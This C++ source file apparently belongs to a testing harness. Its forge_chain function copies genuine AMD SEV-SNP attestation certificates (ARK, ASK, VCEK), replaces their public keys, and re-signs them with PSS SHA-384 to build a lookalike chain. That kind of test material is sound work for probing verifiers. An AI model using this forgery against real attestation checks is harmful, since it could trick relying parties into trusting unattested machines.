#include "attacks/snp_forged_chain.h"

#include <openssl/rsa.h>

#include <memory>

#include "sw/attest/report_binding.h"

namespace cbit::attacks {

namespace {

// RSASSA-PSS with SHA-384, MGF1-SHA-384, salt 48 (AMD's certificate signature parameters).
void sign_pss(X509* cert, EVP_PKEY* key) {
  std::unique_ptr<EVP_MD_CTX, decltype(&EVP_MD_CTX_free)> ctx(EVP_MD_CTX_new(), EVP_MD_CTX_free);
  EVP_PKEY_CTX* pctx = nullptr;
  psp::ossl_check(ctx && EVP_DigestSignInit(ctx.get(), &pctx, EVP_sha384(), nullptr, key) == 1 &&
                      EVP_PKEY_CTX_set_rsa_padding(pctx, RSA_PKCS1_PSS_PADDING) == 1 &&
                      EVP_PKEY_CTX_set_rsa_pss_saltlen(pctx, 48) == 1 &&
                      EVP_PKEY_CTX_set_rsa_mgf1_md(pctx, EVP_sha384()) == 1 &&
                      X509_sign_ctx(cert, ctx.get()) > 0,
                  "forged certificate signature");
}

// The genuine certificate with another public key, signed by `signer`.
psp::X509Ptr clone_with_key(const X509* genuine, EVP_PKEY* pub, EVP_PKEY* signer) {
  psp::X509Ptr c(X509_dup(const_cast<X509*>(genuine)));
  psp::ossl_check(c && X509_set_pubkey(c.get(), pub) == 1, "forged certificate key");
  sign_pss(c.get(), signer);
  return c;
}

}  // namespace

ForgedChain forge_chain(const X509* genuine_ark, const X509* genuine_ask, const X509* genuine_vcek,
                        psp::PkeyPtr ark_key, psp::PkeyPtr ask_key) {
  ForgedChain f;
  f.vcek_key = sw::attest::generate_p384_key();
  f.ark = clone_with_key(genuine_ark, ark_key.get(), ark_key.get());
  f.ask = clone_with_key(genuine_ask, ask_key.get(), ark_key.get());
  f.vcek = clone_with_key(genuine_vcek, f.vcek_key.get(), ask_key.get());
  return f;
}

}  // namespace cbit::attacks
